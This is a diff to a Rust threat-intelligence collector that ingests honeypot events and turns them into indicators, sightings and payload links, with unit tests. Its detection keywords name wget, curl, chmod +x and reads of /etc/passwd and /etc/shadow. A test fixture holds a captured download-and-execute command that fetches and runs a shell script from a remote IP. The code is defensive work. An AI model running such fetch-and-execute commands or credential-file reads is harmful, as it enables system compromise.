@@ -1,42 +1,454 @@
 //! HoneyTrap honeypot feed collector
 //! Reads IOCs captured by our honeypot network
+//!
+//! Events arrive three ways, all parsed the same: polled from the HoneyTrap
+//! API, pushed to `POST /api/v1/ingest/honeytrap`, or read from the local
+//! `events.jsonl`. Every event becomes a sighting of the attacker IP.
+//!
+//! Events are also folded into honeypot sessions (credentials and commands
+//! per session), and the payload URLs and hashes found in download commands
+//! are stored as indicators linked to the attacker IP.
 
 use anyhow::{Context, Result};
 use async_trait::async_trait;
+use chrono::{DateTime, SecondsFormat, Utc};
 use reqwest::Client;
 use serde::Deserialize;
+use serde_json::json;
+use sha2::{Digest, Sha256};
+use std::collections::HashMap;
+use std::path::{Path, PathBuf};
 use std::time::Duration;
+use tokio::io::{AsyncReadExt, AsyncSeekExt};
 
-use crate::collectors::FeedCollector;
-use crate::models::{CreateIndicatorRequest, IocType, Severity, Tlp};
+use crate::collectors::{feed_cursor, store_batch, FeedBatch, FeedCollector, FeedRelation, FeedResult, FeedSighting};
+use crate::honeypot::{command_artifacts, CommandArtifacts};
+use crate::models::ioc_utils::{canonicalize_url, detect_hash_algorithm};
+use crate::models::{CreateIndicatorRequest, HoneypotObservation, IocType, RelationType, Severity, Tlp};
+use crate::storage::ThreatIntelRepo;
+
+/// Feed and `ioc_sources` name
+pub const FEED: &str = "honeytrap";
+
+/// Most bytes of the events file read per pass
+const MAX_READ_BYTES: u64 = 16 * 1024 * 1024;
 
 /// HoneyTrap event from the honeypot
-#[derive(Debug, Deserialize)]
-struct HoneytrapEvent {
-    session_id: String,
-    protocol: String,
-    category: String,
-    severity: String,
-    source: HoneytrapSource,
-    credentials: Option<HoneytrapCredentials>,
-    command: Option<HoneytrapCommand>,
+#[derive(Debug, Clone, Deserialize)]
+pub struct HoneytrapEvent {
+    /// Event id assigned by HoneyTrap, when it sends one
+    #[serde(default, alias = "event_id")]
+    pub id: Option<String>,
+    pub session_id: String,
+    pub protocol: String,
+    pub category: String,
+    pub severity: String,
+    #[serde(default, alias = "date")]
+    pub timestamp: Option<DateTime<Utc>>,
+    pub source: HoneytrapSource,
+    pub credentials: Option<HoneytrapCredentials>,
+    pub command: Option<HoneytrapCommand>,
+    /// Files the honeypot fetched on the attacker's behalf
+    #[serde(default)]
+    pub downloads: Vec<HoneytrapDownload>,
+}
+
+#[derive(Debug, Clone, Deserialize)]
+pub struct HoneytrapSource {
+    pub ip: String,
+    pub port: u16,
+}
+
+#[derive(Debug, Clone, Deserialize)]
+pub struct HoneytrapCredentials {
+    pub username: String,
+    pub password: String,
+}
+
+#[derive(Debug, Clone, Deserialize)]
+pub struct HoneytrapCommand {
+    pub command: String,
+}
+
+#[derive(Debug, Clone, Deserialize)]
+pub struct HoneytrapDownload {
+    pub url: String,
+    pub sha256: Option<String>,
+    pub md5: Option<String>,
+}
+
+impl HoneytrapEvent {
+    /// Tags describing what the attacker did in this event
+    fn tags(&self) -> Vec<String> {
+        let mut tags = vec![
+            format!("honeypot:{}", self.protocol),
+            format!("category:{}", self.category),
+        ];
+
+        // Add credential-based tags
+        if let Some(ref creds) = self.credentials {
+            tags.push("has_credentials".to_string());
+            if creds.username == "root" || creds.username == "admin" {
+                tags.push("targets_admin".to_string());
+            }
+        }
+
+        // Add command-based tags
+        if let Some(ref cmd) = self.command {
+            tags.push("executed_commands".to_string());
+
+            // Detect suspicious commands
+            let cmd_lower = cmd.command.to_lowercase();
+            if cmd_lower.contains("wget") || cmd_lower.contains("curl") {
+                tags.push("download_attempt".to_string());
+            }
+            if cmd_lower.contains("chmod") && cmd_lower.contains("+x") {
+                tags.push("made_executable".to_string());
+            }
+            if cmd_lower.contains("/etc/passwd") || cmd_lower.contains("/etc/shadow") {
+                tags.push("credential_access".to_string());
+            }
+        }
+
+        tags
+    }
+
+    fn severity(&self) -> Severity {
+        match self.severity.as_str() {
+            "critical" => Severity::Critical,
+            "high" => Severity::High,
+            "medium" => Severity::Medium,
+            "low" => Severity::Low,
+            _ => Severity::Medium,
+        }
+    }
+
+    /// Key identifying the event across replays: its id, else a digest of
+    /// its contents (so identical events without a timestamp count once)
+    pub fn event_key(&self) -> String {
+        if let Some(ref id) = self.id {
+            return id.clone();
+        }
+        let contents = json!({
+            "session_id": self.session_id,
+            "timestamp": self.timestamp,
+            "ip": self.source.ip,
+            "port": self.source.port,
+            "protocol": self.protocol,
+            "category": self.category,
+            "username": self.credentials.as_ref().map(|c| &c.username),
+            "password": self.credentials.as_ref().map(|c| &c.password),
+            "command": self.command.as_ref().map(|c| &c.command),
+        });
+        hex::encode(Sha256::digest(contents.to_string().as_bytes()))
+    }
+
+    /// Sighting of the attacker IP for this event
+    fn sighting(&self) -> FeedSighting {
+        FeedSighting {
+            value: self.source.ip.clone(),
+            key: Some(self.event_key()),
+            context: json!({
+                "session_id": self.session_id,
+                "protocol": self.protocol,
+                "category": self.category,
+                "source_port": self.source.port,
+                "username": self.credentials.as_ref().map(|c| &c.username),
+                "password": self.credentials.as_ref().map(|c| &c.password),
+                "command": self.command.as_ref().map(|c| &c.command),
+            }),
+            observed_at: self.timestamp,
+        }
+    }
+
+    /// Payload URLs and hashes from the command and the reported downloads
+    fn artifacts(&self) -> CommandArtifacts {
+        let mut artifacts = self
+            .command
+            .as_ref()
+            .map(|c| command_artifacts(&c.command))
+            .unwrap_or_default();
+
+        for download in &self.downloads {
+            if let Some(url) = canonicalize_url(&download.url)
+                && !artifacts.urls.contains(&url)
+            {
+                artifacts.urls.push(url);
+            }
+            for hash in [&download.sha256, &download.md5].into_iter().flatten() {
+                let hash = hash.to_lowercase();
+                if detect_hash_algorithm(&hash).is_some() && !artifacts.hashes.contains(&hash) {
+                    artifacts.hashes.push(hash);
+                }
+            }
+        }
+
+        artifacts
+    }
+
+    /// Session analytics row for this event
+    fn observation(&self) -> HoneypotObservation {
+        HoneypotObservation {
+            session_id: self.session_id.clone(),
+            event_key: self.event_key(),
+            source_ip: self.source.ip.clone(),
+            protocol: self.protocol.clone(),
+            category: self.category.clone(),
+            observed_at: self.timestamp.unwrap_or_else(Utc::now),
+            username: self.credentials.as_ref().map(|c| c.username.clone()),
+            password: self.credentials.as_ref().map(|c| c.password.clone()),
+            command: self.command.as_ref().map(|c| c.command.clone()),
+            download_urls: self.artifacts().urls,
+        }
+    }
+}
+
+/// Payload URL or hash dropped by a honeypot attacker
+fn dropper_indicator(value: String, ioc_type: IocType) -> CreateIndicatorRequest {
+    CreateIndicatorRequest {
+        hash_algorithm: detect_hash_algorithm(&value).filter(|_| ioc_type == IocType::Hash),
+        value,
+        ioc_type: Some(ioc_type),
+        severity: Some(Severity::High),
+        confidence: Some(80),
+        tlp: Some(Tlp::Green),
+        tags: Some(vec!["honeypot:dropper".to_string(), "derived:honeypot".to_string()]),
+        source: Some(FEED.to_string()),
+        expiration_days: Some(30),
+        context: None,
+    }
+}
+
+/// One indicator per attacker IP (tags merged, highest severity) and one
+/// sighting per event, plus the payload URLs and hashes the attackers
+/// downloaded, linked to their IPs
+pub fn events_batch(events: &[HoneytrapEvent]) -> FeedBatch {
+    let mut by_ip: HashMap<&str, CreateIndicatorRequest> = HashMap::new();
+    let mut order = vec![];
+    let mut droppers: Vec<CreateIndicatorRequest> = vec![];
+    let mut relations: Vec<FeedRelation> = vec![];
+
+    for event in events {
+        let ip = event.source.ip.as_str();
+        let indicator = by_ip.entry(ip).or_insert_with(|| {
+            order.push(ip);
+            CreateIndicatorRequest {
+                value: ip.to_string(),
+                ioc_type: Some(IocType::Ip),
+                hash_algorithm: None,
+                severity: Some(Severity::Unknown),
+                confidence: Some(90), // High confidence - we observed it directly
+                tlp: Some(Tlp::Green),
+                tags: Some(vec![]),
+                source: Some(FEED.to_string()),
+                expiration_days: Some(30), // Keep for 30 days
+                context: None,
+            }
+        });
+
+        indicator.severity = indicator.severity.clone().max(Some(event.severity()));
+        let tags = indicator.tags.get_or_insert_with(Vec::new);
+        for tag in event.tags() {
+            if !tags.contains(&tag) {
+                tags.push(tag);
+            }
+        }
+
+        let artifacts = event.artifacts();
+        let mut link = |value: &String, ioc_type: IocType, relation: RelationType, droppers: &mut Vec<CreateIndicatorRequest>| {
+            if !droppers.iter().any(|d| &d.value == value) {
+                droppers.push(dropper_indicator(value.clone(), ioc_type));
+            }
+            if !relations.iter().any(|r| r.source == ip && &r.target == value) {
+                relations.push(FeedRelation {
+                    source: ip.to_string(),
+                    target: value.clone(),
+                    relation,
+                });
+            }
+        };
+        for url in &artifacts.urls {
+            link(url, IocType::Url, RelationType::DownloadsFrom, &mut droppers);
+        }
+        for hash in &artifacts.hashes {
+            link(hash, IocType::Hash, RelationType::Dropped, &mut droppers);
+        }
+
+        // The honeypot knows which file came from which URL
+        for download in &event.downloads {
+            let Some(url) = canonicalize_url(&download.url) else {
+                continue;
+            };
+            for hash in [&download.sha256, &download.md5].into_iter().flatten() {
+                let hash = hash.to_lowercase();
+                if artifacts.hashes.contains(&hash)
+                    && !relations.iter().any(|r| r.source == url && r.target == hash)
+                {
+                    relations.push(FeedRelation {
+                        source: url.clone(),
+                        target: hash,
+                        relation: RelationType::Delivers,
+                    });
+                }
+            }
+        }
+    }
+
+    let mut indicators: Vec<CreateIndicatorRequest> = order.into_iter().filter_map(|ip| by_ip.remove(ip)).collect();
+    indicators.extend(droppers);
+
+    FeedBatch {
+        indicators,
+        sightings: events.iter().map(HoneytrapEvent::sighting).collect(),
+        relations,
+        cursor: None,
+    }
+}
+
+/// Store HoneyTrap events: the sessions they belong to, then indicators,
+/// sightings and dropper links through the feed pipeline. The cursor is only
+/// saved when both succeed.
+pub async fn ingest(repo: &ThreatIntelRepo, events: &[HoneytrapEvent], cursor: Option<String>) -> FeedResult {
+    let observations: Vec<HoneypotObservation> = events.iter().map(HoneytrapEvent::observation).collect();
+    let sessions = repo.record_honeypot_observations(&observations).await;
+
+    let mut batch = events_batch(events);
+    batch.cursor = cursor.filter(|_| sessions.is_ok());
+    let mut result = store_batch(FEED, batch, repo).await;
+
+    if let Err(e) = sessions {
+        result.errors.push(e.to_string());
+    }
+    result
+}
+
+/// Parse a JSON event, a JSON array of events or newline-delimited events.
+/// Returns the events and the number of lines that could not be parsed.
+pub fn parse_events(body: &str) -> (Vec<HoneytrapEvent>, usize) {
+    let trimmed = body.trim();
+    if trimmed.starts_with('[') {
+        return match serde_json::from_str::<Vec<HoneytrapEvent>>(trimmed) {
+            Ok(events) => (events, 0),
+            Err(_) => (vec![], 1),
+        };
+    }
+
+    let mut events = vec![];
+    let mut malformed = 0;
+    for line in trimmed.lines().filter(|l| !l.trim().is_empty()) {
+        match serde_json::from_str::<HoneytrapEvent>(line) {
+            Ok(event) => events.push(event),
+            Err(_) => malformed += 1,
+        }
+    }
+    (events, malformed)
+}
+
+/// Position in the events file: `<inode>:<offset>`
+#[derive(Debug, Clone, Copy, Default, PartialEq)]
+struct FileCursor {
+    inode: u64,
+    offset: u64,
+}
+
+impl FileCursor {
+    fn parse(cursor: &str) -> Option<Self> {
+        let (inode, offset) = cursor.split_once(':')?;
+        Some(Self {
+            inode: inode.parse().ok()?,
+            offset: offset.parse().ok()?,
+        })
+    }
+}
+
+impl std::fmt::Display for FileCursor {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(f, "{}:{}", self.inode, self.offset)
+    }
 }
 
-#[derive(Debug, Deserialize)]
-struct HoneytrapSource {
-    ip: String,
-    port: u16,
+#[cfg(unix)]
+fn inode(metadata: &std::fs::Metadata) -> u64 {
+    std::os::unix::fs::MetadataExt::ino(metadata)
 }
 
-#[derive(Debug, Deserialize)]
-struct HoneytrapCredentials {
-    username: String,
-    password: String,
+#[cfg(not(unix))]
+fn inode(_metadata: &std::fs::Metadata) -> u64 {
+    0
 }
 
-#[derive(Debug, Deserialize)]
-struct HoneytrapCommand {
-    command: String,
+/// Read the complete lines appended to the events file since `cursor`.
+/// A rotated (new inode) or truncated file is read from the start; a partial
+/// last line is left for the next read.
+pub async fn read_events_since(path: &Path, cursor: Option<&str>) -> Result<(Vec<HoneytrapEvent>, String)> {
+    read_events_limited(path, cursor, MAX_READ_BYTES).await
+}
+
+/// [`read_events_since`] reading at most `limit` bytes. A line that alone
+/// exceeds the limit is skipped instead of holding the cursor in place.
+async fn read_events_limited(path: &Path, cursor: Option<&str>, limit: u64) -> Result<(Vec<HoneytrapEvent>, String)> {
+    let mut file = tokio::fs::File::open(path)
+        .await
+        .with_context(|| format!("Failed to open events file {}", path.display()))?;
+    let metadata = file.metadata().await?;
+    let inode = inode(&metadata);
+
+    let offset = match cursor.and_then(FileCursor::parse) {
+        Some(saved) if saved.inode == inode && saved.offset <= metadata.len() => saved.offset,
+        _ => 0,
+    };
+
+    file.seek(std::io::SeekFrom::Start(offset)).await?;
+    let mut buffer = vec![];
+    file.take(limit).read_to_end(&mut buffer).await?;
+
+    let mut complete = buffer.iter().rposition(|&b| b == b'\n').map_or(0, |i| i + 1);
+    if complete == 0 && buffer.len() as u64 == limit {
+        // The rest of the line is read as a malformed fragment next pass
+        tracing::warn!(file = %path.display(), offset, "Skipped a HoneyTrap event line over {} bytes", limit);
+        complete = buffer.len();
+    }
+    let text = String::from_utf8_lossy(&buffer[..complete]);
+    let (events, malformed) = parse_events(&text);
+    if malformed > 0 {
+        tracing::warn!(file = %path.display(), malformed, "Skipped malformed HoneyTrap events");
+    }
+
+    let next = FileCursor {
+        inode,
+        offset: offset + complete as u64,
+    };
+    Ok((events, next.to_string()))
+}
+
+/// Follow the events file, storing new events every `interval`. The file
+/// position is checkpointed on the `honeytrap` source so restarts resume
+/// where they stopped.
+pub fn spawn_follow(path: PathBuf, repo: ThreatIntelRepo, interval: Duration) {
+    tokio::spawn(async move {
+        let mut cursor = match feed_cursor(&repo, FEED).await {
+            Ok(cursor) => cursor,
+            Err(e) => {
+                tracing::warn!(error = %e, "Failed to load HoneyTrap file position; reading from the start");
+                None
+            }
+        };
+        tracing::info!(file = %path.display(), "Following HoneyTrap events file");
+
+        loop {
+            match read_events_since(&path, cursor.as_deref()).await {
+                Ok((events, next)) if cursor.as_deref() != Some(next.as_str()) => {
+                    // On errors the same lines are read again next pass
+                    if ingest(&repo, &events, Some(next.clone())).await.errors.is_empty() {
+                        cursor = Some(next);
+                    }
+                }
+                Ok(_) => {}
+                Err(e) => tracing::warn!(error = %e, "Failed to read HoneyTrap events file"),
+            }
+            tokio::time::sleep(interval).await;
+        }
+    });
 }
 
 /// Collector for HoneyTrap events
@@ -44,11 +456,13 @@ pub struct HoneytrapCollector {
     client: Client,
     api_url: String,
     api_key: Option<String>,
+    events_file: Option<PathBuf>,
 }
 
 impl HoneytrapCollector {
-    /// Create a new HoneyTrap collector
-    pub fn new(api_url: String, api_key: Option<String>) -> Self {
+    /// Create a new HoneyTrap collector. Without an API URL it reads new
+    /// events from `events_file` on each run (unless the file is followed).
+    pub fn new(api_url: String, api_key: Option<String>, events_file: Option<PathBuf>) -> Self {
         let client = Client::builder()
             .timeout(Duration::from_secs(30))
             .build()
@@ -58,140 +472,226 @@ impl HoneytrapCollector {
             client,
             api_url,
             api_key,
+            events_file,
         }
     }
 
-    /// Parse events file directly (for local deployment)
-    pub async fn parse_events_file(path: &str) -> Result<Vec<CreateIndicatorRequest>> {
-        let content = tokio::fs::read_to_string(path)
-            .await
-            .context("Failed to read events file")?;
+    /// Fetch recent events from the HoneyTrap API
+    async fn fetch_api_events(&self, since: Option<DateTime<Utc>>) -> Result<Vec<HoneytrapEvent>> {
+        let mut request = self.client.get(format!("{}/api/events", self.api_url));
 
-        let mut indicators = vec![];
-        let mut seen_ips = std::collections::HashSet::new();
+        if let Some(since) = since {
+            request = request.query(&[("since", since.to_rfc3339_opts(SecondsFormat::Secs, true))]);
+        }
 
-        for line in content.lines() {
-            if line.trim().is_empty() {
-                continue;
-            }
+        if let Some(ref key) = self.api_key {
+            request = request.header("Authorization", format!("Bearer {}", key));
+        }
 
-            if let Ok(event) = serde_json::from_str::<HoneytrapEvent>(line) {
-                // Deduplicate IPs
-                if seen_ips.contains(&event.source.ip) {
-                    continue;
-                }
-                seen_ips.insert(event.source.ip.clone());
-
-                // Create indicator from attacker IP
-                let mut tags = vec![
-                    format!("honeypot:{}", event.protocol),
-                    format!("category:{}", event.category),
-                ];
-
-                // Add credential-based tags
-                if let Some(ref creds) = event.credentials {
-                    tags.push("has_credentials".to_string());
-                    if creds.username == "root" || creds.username == "admin" {
-                        tags.push("targets_admin".to_string());
-                    }
-                }
+        let response = request
+            .send()
+            .await
+            .context("Failed to fetch from HoneyTrap API")?;
 
-                // Add command-based tags
-                if let Some(ref cmd) = event.command {
-                    tags.push("executed_commands".to_string());
-                    
-                    // Detect suspicious commands
-                    let cmd_lower = cmd.command.to_lowercase();
-                    if cmd_lower.contains("wget") || cmd_lower.contains("curl") {
-                        tags.push("download_attempt".to_string());
-                    }
-                    if cmd_lower.contains("chmod") && cmd_lower.contains("+x") {
-                        tags.push("made_executable".to_string());
-                    }
-                    if cmd_lower.contains("/etc/passwd") || cmd_lower.contains("/etc/shadow") {
-                        tags.push("credential_access".to_string());
-                    }
-                }
+        if !response.status().is_success() {
+            anyhow::bail!("HoneyTrap API error: {}", response.status());
+        }
 
-                let severity = match event.severity.as_str() {
-                    "critical" => Severity::Critical,
-                    "high" => Severity::High,
-                    "medium" => Severity::Medium,
-                    "low" => Severity::Low,
-                    _ => Severity::Medium,
-                };
-
-                indicators.push(CreateIndicatorRequest {
-                    value: event.source.ip,
-                    ioc_type: Some(IocType::Ip),
-                    severity: Some(severity),
-                    confidence: Some(90), // High confidence - we observed it directly
-                    tlp: Some(Tlp::Green),
-                    tags: Some(tags),
-                    source: Some("honeytrap".to_string()),
-                    expiration_days: Some(30), // Keep for 30 days
-                });
-            }
+        response
+            .json()
+            .await
+            .context("Failed to parse HoneyTrap response")
+    }
+
+    /// Events from the API since the newest event of the last run, or those
+    /// appended to the events file since `cursor`, with the next cursor
+    async fn fetch_events(&self, cursor: Option<&str>) -> Result<(Vec<HoneytrapEvent>, Option<String>)> {
+        // If we have an API URL, fetch from the API. The cursor is the newest
+        // event timestamp seen; events at that second come back again and
+        // are skipped by their sighting keys.
+        if !self.api_url.is_empty() {
+            let since = cursor
+                .and_then(|c| DateTime::parse_from_rfc3339(c).ok())
+                .map(|c| c.with_timezone(&Utc));
+            let events = self.fetch_api_events(since).await?;
+            let newest = events.iter().filter_map(|e| e.timestamp).chain(since).max();
+            return Ok((events, newest.map(|t| t.to_rfc3339_opts(SecondsFormat::Secs, true))));
         }
 
-        Ok(indicators)
+        // Fallback to local file, continuing after the last run
+        let Some(ref path) = self.events_file else {
+            return Ok((vec![], None));
+        };
+        let (events, next) = read_events_since(path, cursor).await?;
+        Ok((events, Some(next)))
     }
 }
 
 #[async_trait]
 impl FeedCollector for HoneytrapCollector {
     fn name(&self) -> &'static str {
-        "honeytrap"
+        FEED
     }
 
     async fn fetch(&self) -> Result<Vec<CreateIndicatorRequest>> {
-        // If we have an API URL, fetch from the API
-        if !self.api_url.is_empty() {
-            let mut request = self.client.get(&format!("{}/api/events", self.api_url));
-            
-            if let Some(ref key) = self.api_key {
-                request = request.header("Authorization", format!("Bearer {}", key));
-            }
+        Ok(self.fetch_since(None).await?.indicators)
+    }
 
-            let response = request
-                .send()
-                .await
-                .context("Failed to fetch from HoneyTrap API")?;
+    async fn fetch_since(&self, cursor: Option<&str>) -> Result<FeedBatch> {
+        let (events, next) = self.fetch_events(cursor).await?;
+        let mut batch = events_batch(&events);
+        batch.cursor = next;
+        Ok(batch)
+    }
 
-            if !response.status().is_success() {
-                anyhow::bail!("HoneyTrap API error: {}", response.status());
-            }
+    async fn collect(&self, repo: &ThreatIntelRepo, cursor: Option<&str>) -> Result<FeedResult> {
+        let (events, next) = self.fetch_events(cursor).await?;
+        Ok(ingest(repo, &events, next).await)
+    }
 
-            let events: Vec<HoneytrapEvent> = response
-                .json()
-                .await
-                .context("Failed to parse HoneyTrap response")?;
-
-            let mut indicators = vec![];
-            for event in events {
-                indicators.push(CreateIndicatorRequest {
-                    value: event.source.ip,
-                    ioc_type: Some(IocType::Ip),
-                    severity: Some(Severity::High),
-                    confidence: Some(90),
-                    tlp: Some(Tlp::Green),
-                    tags: Some(vec![
-                        format!("honeypot:{}", event.protocol),
-                        format!("category:{}", event.category),
-                    ]),
-                    source: Some("honeytrap".to_string()),
-                    expiration_days: Some(30),
-                });
-            }
+    fn is_configured(&self) -> bool {
+        !self.api_url.is_empty() || self.events_file.is_some()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const SSH_LOGIN: &str = r#"{"id":"evt-1","session_id":"s-1","protocol":"ssh","category":"login","severity":"medium","date":"2024-06-01T10:00:00Z","source":{"ip":"45.133.1.20","port":51234},"credentials":{"username":"root","password":"admin123"}}"#;
+    const SSH_COMMAND: &str = r#"{"id":"evt-2","session_id":"s-1","protocol":"ssh","category":"command","severity":"high","timestamp":"2024-06-01T10:00:05Z","source":{"ip":"45.133.1.20","port":51234},"command":{"command":"cd /tmp; wget http://45.133.1.99/x.sh; chmod +x x.sh; ./x.sh"},"downloads":[{"url":"http://45.133.1.99/x.sh","sha256":"9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08"}]}"#;
+    const TELNET_LOGIN: &str = r#"{"session_id":"s-2","protocol":"telnet","category":"login","severity":"low","source":{"ip":"185.220.101.45","port":40022},"credentials":{"username":"guest","password":"guest"}}"#;
+
+    fn temp_file(contents: &[u8]) -> PathBuf {
+        let path = std::env::temp_dir().join(format!("honeytrap-{}.jsonl", uuid::Uuid::new_v4()));
+        std::fs::write(&path, contents).unwrap();
+        path
+    }
+
+    fn append(path: &Path, contents: &str) {
+        use std::io::Write;
+        std::fs::OpenOptions::new().append(true).open(path).unwrap().write_all(contents.as_bytes()).unwrap();
+    }
+
+    #[test]
+    fn parses_single_array_and_ndjson_bodies() {
+        let (events, malformed) = parse_events(SSH_LOGIN);
+        assert_eq!((events.len(), malformed), (1, 0));
+        assert_eq!(events[0].timestamp.unwrap().to_rfc3339(), "2024-06-01T10:00:00+00:00");
+
+        let (events, malformed) = parse_events(&format!("[{},{}]", SSH_LOGIN, TELNET_LOGIN));
+        assert_eq!((events.len(), malformed), (2, 0));
+        let (events, malformed) = parse_events(r#"[{"session_id":1}]"#);
+        assert!(events.is_empty());
+        assert_eq!(malformed, 1);
+
+        let (events, malformed) = parse_events(&format!("{}\n\n{{not json}}\n{}\n", SSH_LOGIN, SSH_COMMAND));
+        assert_eq!((events.len(), malformed), (2, 1));
+        assert_eq!(events[1].id.as_deref(), Some("evt-2"));
+    }
 
-            return Ok(indicators);
+    #[test]
+    fn event_key_prefers_the_id() {
+        let (events, _) = parse_events(&format!("{}\n{}\n{}\n", SSH_LOGIN, TELNET_LOGIN, TELNET_LOGIN));
+        assert_eq!(events[0].event_key(), "evt-1");
+        assert_eq!(events[1].event_key(), events[2].event_key());
+        assert_eq!(events[1].event_key().len(), 64);
+    }
+
+    #[test]
+    fn file_cursor_round_trips() {
+        let cursor = FileCursor { inode: 1234, offset: 987 };
+        assert_eq!(FileCursor::parse(&cursor.to_string()), Some(cursor));
+        assert_eq!(FileCursor::parse("1234"), None);
+        assert_eq!(FileCursor::parse("a:1"), None);
+    }
+
+    #[tokio::test]
+    async fn reads_complete_lines_and_resumes() {
+        let first = format!("{}\n", SSH_LOGIN);
+        let path = temp_file(format!("{}{}", first, &SSH_COMMAND[..40]).as_bytes());
+
+        let (events, cursor) = read_events_since(&path, None).await.unwrap();
+        assert_eq!(events.len(), 1);
+        assert_eq!(FileCursor::parse(&cursor).unwrap().offset, first.len() as u64);
+
+        append(&path, &format!("{}\n", &SSH_COMMAND[40..]));
+        let (events, cursor) = read_events_since(&path, Some(&cursor)).await.unwrap();
+        assert_eq!(events.len(), 1);
+        assert_eq!(events[0].id.as_deref(), Some("evt-2"));
+
+        let (events, same) = read_events_since(&path, Some(&cursor)).await.unwrap();
+        assert!(events.is_empty());
+        assert_eq!(same, cursor);
+
+        // Truncated and rewritten: read from the start
+        std::fs::write(&path, format!("{}\n", TELNET_LOGIN)).unwrap();
+        let (events, _) = read_events_since(&path, Some(&cursor)).await.unwrap();
+        assert_eq!(events[0].session_id, "s-2");
+
+        // Unknown inode: read from the start
+        let (events, _) = read_events_since(&path, Some("0:0")).await.unwrap();
+        assert_eq!(events.len(), 1);
+
+        std::fs::remove_file(&path).unwrap();
+    }
+
+    #[tokio::test]
+    async fn skips_lines_longer_than_the_read_limit() {
+        let long = format!("{{\"padding\":\"{}\"}}\n", "x".repeat(200));
+        let path = temp_file(format!("{}{}\n", long, SSH_LOGIN).as_bytes());
+
+        let (events, cursor) = read_events_limited(&path, None, 64).await.unwrap();
+        assert!(events.is_empty());
+        assert_eq!(FileCursor::parse(&cursor).unwrap().offset, 64);
+
+        let mut cursor = cursor;
+        let mut found = vec![];
+        for _ in 0..8 {
+            let (events, next) = read_events_limited(&path, Some(&cursor), 256).await.unwrap();
+            found.extend(events);
+            cursor = next;
         }
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].id.as_deref(), Some("evt-1"));
 
-        // Fallback to local file
-        Self::parse_events_file("./events.jsonl").await
+        std::fs::remove_file(&path).unwrap();
     }
 
-    fn is_configured(&self) -> bool {
-        true // HoneyTrap is always available locally
+    #[test]
+    fn batch_merges_attackers_and_links_droppers() {
+        let (events, _) = parse_events(&format!("{}\n{}\n{}\n", SSH_LOGIN, SSH_COMMAND, TELNET_LOGIN));
+        let batch = events_batch(&events);
+
+        let values: Vec<&str> = batch.indicators.iter().map(|i| i.value.as_str()).collect();
+        assert_eq!(
+            values,
+            vec![
+                "45.133.1.20",
+                "185.220.101.45",
+                "http://45.133.1.99/x.sh",
+                "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+            ]
+        );
+
+        let attacker = &batch.indicators[0];
+        assert_eq!(attacker.severity, Some(Severity::High));
+        let tags = attacker.tags.as_ref().unwrap();
+        for tag in ["honeypot:ssh", "category:login", "category:command", "targets_admin", "download_attempt", "made_executable"] {
+            assert!(tags.contains(&tag.to_string()), "{}", tag);
+        }
+
+        assert_eq!(batch.sightings.len(), 3);
+        assert_eq!(batch.sightings[1].key.as_deref(), Some("evt-2"));
+
+        let relations: Vec<(&str, &str)> = batch.relations.iter().map(|r| (r.source.as_str(), r.target.as_str())).collect();
+        assert_eq!(
+            relations,
+            vec![
+                ("45.133.1.20", "http://45.133.1.99/x.sh"),
+                ("45.133.1.20", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
+                ("http://45.133.1.99/x.sh", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
+            ]
+        );
     }
 }